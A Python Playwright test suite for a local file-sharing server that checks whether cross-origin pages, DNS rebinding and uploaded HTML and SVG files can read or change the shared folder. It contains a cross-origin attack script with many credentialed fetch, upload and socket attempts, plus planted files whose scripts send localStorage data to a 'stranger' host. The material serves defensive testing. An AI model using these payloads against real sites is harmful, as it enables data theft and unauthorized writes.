"""What strangers try: a page of another origin in the same browser, a name that points to the server, files with scripts."""
import http.server

from playwright.sync_api import Error

from visit import *

# Tries to read and to write at the address `target` as scripts of another origin can. Returns what was successful.
ATTACK = """async (target) => {
  const done = [];
  const attempt = async (name, act) => {
    const late = new Promise((resolve) => setTimeout(resolve, 1500, false));
    const result = await Promise.race([act().catch(() => false), late]);
    if (result) done.push(`${name}: ${String(result).slice(0, 60)}`);
  };
  const ask = (path, options) => async () => (await fetch(target + path, { credentials: "include", ...options })).text();
  const loads = (tag, url) => () => new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), tag === "link" ? { rel: "stylesheet", href: url } : { src: url });
    made.onload = () => resolve(url);
    made.onerror = () => resolve(false);
    document.body.append(made);
  });
  const form = new FormData();
  form.append("file", new File(["planted"], "planted.txt"));
  const tus = { "Tus-Resumable": "1.0.0", "Upload-Length": "7", "Upload-Metadata": "filename cGxhbnRlZC50eHQ=" };
  const json = { Accept: "application/json" };
  await Promise.all([
    ...["", "secret.txt", "secret.png", ".fullbore-page/about", "?archive=zip"].flatMap((path) => ["cors", "no-cors"].map((mode) =>
      attempt(`${mode} GET ${path}`, ask(path, { mode, headers: json })))),
    ...["POST", "PUT", "PATCH", "DELETE"].map((method) => attempt(method, ask("planted.txt", { method, body: "planted" }))),
    attempt("simple POST", ask("", { method: "POST", mode: "no-cors", body: "planted" })),
    attempt("POST of a form", ask("", { method: "POST", mode: "no-cors", body: form })),
    attempt("POST of tus", ask("", { method: "POST", headers: tus, body: "planted" })),
    attempt("beacon", async () => { navigator.sendBeacon(target, form); return false; }),
    attempt("img", loads("img", target + "secret.png")),
    attempt("script", loads("script", target + "secret.js")),
    attempt("link", loads("link", target + "secret.css")),
    attempt("WebSocket", () => new Promise((resolve, reject) => {
      const socket = new WebSocket(target.replace("http", "ws"));
      socket.onopen = () => resolve("open");
      socket.onerror = reject;
    })),
    attempt("EventSource", () => new Promise((resolve, reject) => {
      const source = new EventSource(target, { withCredentials: true });
      source.onopen = () => resolve("open");
      source.onerror = () => { source.close(); reject(); };
    })),
    attempt("window", async () => {
      const opened = open(target);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return opened.localStorage.length + 1;
    }),
  ]);
  for (const path of ["", "secret.txt"]) document.body.append(Object.assign(document.createElement("iframe"), { src: target + path }));
  const frame = Object.assign(document.createElement("iframe"), { name: "answer" });
  const real = Object.assign(document.createElement("form"), { method: "post", action: target, enctype: "multipart/form-data", target: "answer" });
  const input = Object.assign(document.createElement("input"), { type: "file", name: "file" });
  const files = new DataTransfer();
  files.items.add(new File(["planted"], "planted.txt"));
  input.files = files.files;
  real.append(input);
  document.body.append(frame, real);
  real.submit();
  await new Promise((resolve) => setTimeout(resolve, 700));
  return done;
}"""


class Stranger:
    """The server of another origin. It notes what its pages, or scripts that run elsewhere, send to it."""

    def __init__(self):
        asked = self.asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append((self.path, dict(self.headers)))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<!DOCTYPE html><title>Prizes</title><body>")

            def log_message(self, *_):
                pass
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://{STRANGER}:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()


def strangers(browser, folder):
    """Pages of other origins, a name that points to the server, and files with scripts neither read nor store anything."""
    store = folder / "in"
    store.mkdir()
    for name in ("secret.txt", "secret.js", "secret.css"):
        (store / name).write_text("var secret = 1;")
    picture(store / "secret.png", 10 * KiB, 1)
    with share(store, "--download") as server, Stranger() as stranger:
        steal = f"fetch('{stranger.url}stolen?' + localStorage.length)"
        (store / "evil.html").write_text(f"<!DOCTYPE html><script>{steal}</script><img src=x onerror=\"{steal}\">")
        (store / "evil.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><script>{steal}</script></svg>')
        kept = sorted(path.name for path in store.iterdir() if path.is_file())
        target = f"http://{HOST}:{server.port}/"
        with Visit(browser, server.port) as visit:
            visit.until("#entries", "evil.html")
            page = visit.context.new_page()
            page.goto(stranger.url)
            done = page.evaluate(ATTACK, target)
            require(not done, f"a page of another origin was successful: {done}")
            for frame in page.frames[1:]:
                shown = frame.evaluate("document.documentElement.outerHTML")
                require('id="send"' not in shown and "secret =" not in shown, f"a page of another origin shows {frame.url} in a frame")
            check_files(visit, stranger)
        check_rebinding(browser, server, stranger)
        now = sorted(path.name for path in store.iterdir() if path.is_file())
        require(now == kept, f"a stranger has changed the folder: {set(now) ^ set(kept)}")
        require(not any((store / ".fullbore").rglob("*.part")), "a stranger has begun an upload")
        stolen = [path for path, headers in stranger.asked if "stolen" in path or "ticket" in headers.get("Referer", "")]
        require(not stolen, f"a script that someone has sent ran, or a ticket was told: {stolen[:3]}")


def check_files(visit, stranger):
    """Opens files with scripts by the links of the list."""
    for name in ("evil.html", "evil.svg"):
        opened = visit.context.new_page()
        try:
            opened.goto(visit.page.evaluate("n => [...document.querySelectorAll('#entries .link')].find((a) => a.textContent === n).href", name))
        except Error as error:
            require("Download is starting" in str(error), str(error))
        time.sleep(0.2)
        opened.close()
    # What the policy of the page forbids is an error of each visit.
    visit.page.evaluate("url => document.body.append(Object.assign(new Image(), { src: url }))", stranger.url)
    eventually(lambda: visit.errors, "a violation of the page's policy is not noticed")
    visit.errors.clear()


def check_rebinding(browser, server, stranger):
    """The stranger's name points to the server: scripts of its origin have no code."""
    with Visit(browser, server.port, code=None, host=STRANGER) as visit:
        visit.wait_for("#gate:not([hidden])")
        seen = visit.page.evaluate("""async () => {
          const statuses = [localStorage.length];
          for (const path of ["./", "secret.txt", "secret.png", ".fullbore-page/about", "./?archive=zip"]) {
            statuses.push((await fetch(path, { headers: { Accept: "application/json" } })).status);
          }
          for (const method of ["POST", "PUT", "DELETE"]) statuses.push((await fetch("planted.txt", { method, body: "planted" })).status);
          return statuses;
        }""")
        require(seen == [0] + 8 * [401], f"another name of the server's address gives {seen}")
